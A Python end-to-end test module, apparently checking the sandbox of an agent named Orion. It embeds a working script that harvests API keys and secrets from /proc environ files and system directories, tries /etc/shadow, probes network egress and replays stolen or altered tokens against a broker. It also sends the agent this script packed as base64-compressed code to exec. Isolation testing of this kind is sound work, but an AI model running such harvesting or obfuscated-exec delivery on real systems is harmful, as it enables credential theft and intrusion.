"""A hostile program that looks for secrets and ways out, and how an agent is made to run it."""

import base64
import json
import zlib
from collections.abc import Mapping
from typing import Any

from app.playground.slack.types import JsonObject
from tests.e2e.harness import Stage

HOSTILE = """
import http.client, json, os, re, socket, sys, urllib.request
found = {}
words = {name: bytes.fromhex(word) for name, word in GIVEN["words"].items()}
seen, hits, own, tokens = 0, [], "", set()
def look(path):
    global seen, own
    try:
        with open(path, "rb") as file:
            data = file.read(4_000_000)
    except OSError:
        return
    seen += 1
    hits.extend(f"{name} in {path}" for name, word in words.items() if word in data)
    tokens.update(re.findall(rb"sk-ant-orion-[A-Za-z0-9_-]{40,}", data))
    for entry in data.split(b"\\0") if path.endswith("/environ") else ():
        if entry.startswith(b"ANTHROPIC_API_KEY="):
            own = entry.partition(b"=")[2].decode()
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo", "maps"):
        look(f"/proc/{pid}/{name}")
roots = ("/work", "/home", "/orion", "/tmp", "/broker", "/etc", "/run", "/var", "/root", "/dev/shm", "/opt", "/srv")
for root in roots:
    for directory, folders, files in os.walk(root):
        # Python's own files are the host's, and fifty thousand.
        folders[:] = [name for name in folders if os.path.join(directory, name) != sys.base_prefix]
        for name in files:
            look(os.path.join(directory, name))
look("/proc/1/root/etc/shadow")
printed = os.popen("env; set").read().encode()
hits.extend(f"{name} printed" for name, word in words.items() if word in printed)
found["looked at"], found["hits"] = seen, hits
found["others' tokens"] = len(tokens - {own.encode()})

def attempt(act):
    try:
        return act()
    except Exception as exc:
        return type(exc).__name__
def connect(host, port):
    socket.create_connection((host, port), 2).close()
    return "CONNECTED"
def resolve(name):
    return "RESOLVED " + str(socket.getaddrinfo(name, 443)[0][4])
def fetch(url):
    return "FETCHED " + str(urllib.request.urlopen(url, timeout=2).status)
found["connected"] = {f"{host}:{port}": attempt(lambda: connect(host, port)) for host, port in GIVEN["hosts"]}
found["resolved"] = attempt(lambda: resolve("example.com"))
found["fetched"] = {url: attempt(lambda: fetch(url)) for url in GIVEN["urls"]}

class Broker(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(5)
        self.sock.connect(GIVEN["broker"] + "/" + os.listdir(GIVEN["broker"])[0])
def request(method, path, body=None, headers={}):
    broker = Broker("broker")
    broker.request(method, path, body, headers)
    return broker.getresponse().status
def ask(token, model):
    body = {"model": model, "max_tokens": 9, "messages": [{"role": "user", "content": GIVEN["mark"]}]}
    headers = {"x-api-key": token, "anthropic-version": "2023-06-01", "content-type": "application/json"}
    return request("POST", "/broker/anthropic/v1/messages", json.dumps(body), headers)
found["routes"] = {route: attempt(lambda: request(*route.split(" "))) for route in GIVEN["routes"]}
found["tokens"] = {name: attempt(lambda: ask(token, GIVEN["model"])) for name, token in GIVEN["tokens"].items()}
found["tokens"]["own, altered"] = ask(own[:-6] + ("AAAAAA" if own[-6:] != "AAAAAA" else "BBBBBB"), GIVEN["model"])
found["tokens"]["own, another model"] = ask(own, "claude-opus-5")
found["tokens"]["none"] = ask("", GIVEN["model"])
found["tokens"]["own"] = ask(own, GIVEN["model"])
print("FOUND " + json.dumps(found))
"""
"""Runs inside. What it looks for comes in hexadecimal, so that it does not find itself."""


async def run_inside(stage: Stage, given: Mapping[str, Any]) -> tuple[str, JsonObject]:
    """The message, and what the script found, as the model was told it."""
    script = f"import json\nGIVEN = json.loads({json.dumps(given)!r})\n{HOSTILE}"
    packed = base64.b64encode(zlib.compress(script.encode(), 9)).decode()
    unpack = "import base64, sys, zlib; exec(zlib.decompress(base64.b64decode(sys.argv[1])))"
    asked = await stage.client.say(f"@Orion run: python3 -c '{unpack}' {packed}")
    await stage.answer(asked)
    for request in reversed(await stage.world.model_requests()):
        for line in _tool_output(request).splitlines():
            if line.startswith("FOUND "):
                found: JsonObject = json.loads(line.removeprefix("FOUND "))
                return asked, found
    raise AssertionError("the script did not come to its end")


def _tool_output(request: JsonObject) -> str:
    content = request["body"]["messages"][-1]["content"]
    return "".join(
        str(block["content"])
        for block in content
        if isinstance(block, dict) and block["type"] == "tool_result"
    )
